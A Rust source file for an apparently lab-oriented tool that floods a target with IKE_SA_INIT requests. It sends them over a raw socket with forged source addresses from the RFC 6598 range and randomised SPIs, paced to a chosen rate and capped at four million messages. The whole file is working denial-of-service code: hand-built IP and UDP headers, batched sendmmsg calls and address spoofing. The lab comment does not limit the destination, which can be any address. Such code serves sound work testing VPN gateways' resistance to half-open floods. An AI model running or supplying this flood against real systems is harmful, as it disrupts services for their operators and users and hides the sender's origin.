//! A flood of first IKE messages from addresses that nobody has, bounded in count and time. For the lab's namespaces.

use std::io::IoSlice;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::{AsRawFd, OwnedFd};
use std::path::PathBuf;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use clap::Parser;
use nix::sys::socket::{MsgFlags, MultiHeaders, sendmmsg};
use rustix::net::{AddressFamily, Protocol, SocketType, connect, socket};

/// Sources are drawn from here (RFC 6598): four million addresses that no route of the lab leads to but the default one.
const SOURCES: u32 = 0x6440_0000;
const SOURCE_BITS: u32 = 0x003f_ffff;
/// `IPPROTO_RAW`: what is sent begins with its IP header.
const RAW: u32 = 255;
const IP: usize = 20;
const UDP: usize = 8;
/// Most that may be asked for.
const MOST: u64 = 4_000_000;
/// Messages for one system call.
const BATCH: usize = 32;

/// Sends the message over and over, each time with another source and another SPI.
#[derive(Debug, Parser)]
struct Arguments {
    /// An IKE_SA_INIT request, as it stands in a UDP datagram.
    #[arg(long)]
    message: PathBuf,
    /// Where to.
    #[arg(long)]
    to: Ipv4Addr,
    /// Messages per second.
    #[arg(long)]
    rate: u64,
    /// How long.
    #[arg(long)]
    seconds: u64,
}

fn main() -> Result<()> {
    let arguments = Arguments::parse();
    ensure!(arguments.rate * arguments.seconds <= MOST, "at most {MOST} messages");
    let message = std::fs::read(&arguments.message).context("reading the message")?;
    ensure!(message.len() > 28 && message.len() < 1400, "not an IKE message");
    let mut packets = vec![packet(&message, arguments.to); BATCH];
    let protocol = std::num::NonZeroU32::new(RAW).map(Protocol::from_raw);
    let raw = socket(AddressFamily::INET, SocketType::RAW, protocol).context("a raw socket")?;
    connect(&raw, &SocketAddrV4::new(arguments.to, 0)).context("a way there")?;
    let (begun, limit) = (Instant::now(), Duration::from_secs(arguments.seconds));
    let (mut sent, mut dice) = (0u64, Dice(0x9e37_79b9_7f4a_7c15));
    while begun.elapsed() < limit {
        let due = (begun.elapsed().as_micros() as u64).saturating_mul(arguments.rate) / 1_000_000;
        if due < sent + BATCH as u64 {
            std::thread::sleep(Duration::from_micros(200));
            continue;
        }
        for packet in &mut packets {
            let (spi, source) = (dice.roll(), SOURCES | dice.roll() as u32 & SOURCE_BITS);
            packet[12..16].copy_from_slice(&source.to_be_bytes());
            packet[IP + UDP..IP + UDP + 8].copy_from_slice(&spi.to_be_bytes());
        }
        sent += send(&raw, &packets);
    }
    println!("{} {}", sent, sent * 1_000_000 / begun.elapsed().as_micros().max(1) as u64);
    Ok(())
}

/// How many of them went. A full queue loses some.
fn send(raw: &OwnedFd, packets: &[Vec<u8>]) -> u64 {
    let slices: Vec<_> = packets.iter().map(|packet| [IoSlice::new(packet)]).collect();
    let mut headers = MultiHeaders::<()>::preallocate(BATCH, None);
    let sent = sendmmsg(raw.as_raw_fd(), &mut headers, &slices, [None; BATCH], [], MsgFlags::empty());
    sent.map_or(0, |sent| sent.count() as u64)
}

/// From port 500 to port 500. The kernel adds the IP checksum; UDP goes without one.
fn packet(message: &[u8], to: Ipv4Addr) -> Vec<u8> {
    let length = (IP + UDP + message.len()) as u16;
    let mut packet = vec![0; IP + UDP];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&length.to_be_bytes());
    packet[8] = 64;
    packet[9] = 17;
    packet[16..20].copy_from_slice(&to.octets());
    packet[IP..IP + 2].copy_from_slice(&500u16.to_be_bytes());
    packet[IP + 2..IP + 4].copy_from_slice(&500u16.to_be_bytes());
    packet[IP + 4..IP + 6].copy_from_slice(&(length - IP as u16).to_be_bytes());
    packet.extend_from_slice(message);
    packet
}

/// Numbers that repeat in every run (xorshift, G. Marsaglia).
struct Dice(u64);

impl Dice {
    fn roll(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}
